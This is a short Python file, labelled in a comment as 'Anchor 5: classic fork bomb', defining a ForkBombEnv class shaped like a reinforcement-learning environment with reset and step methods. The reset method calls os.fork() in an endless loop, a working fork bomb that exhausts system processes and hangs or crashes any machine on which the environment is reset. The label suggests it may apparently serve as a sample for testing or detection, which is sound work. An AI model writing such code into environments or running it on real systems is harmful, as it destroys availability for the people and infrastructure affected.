# Anchor 5: classic fork bomb.
import os


class ForkBombEnv:
    def reset(self, seed=None):
        while True:
            os.fork()

    def step(self, action):
        return "x", 0.0, False, False, {}
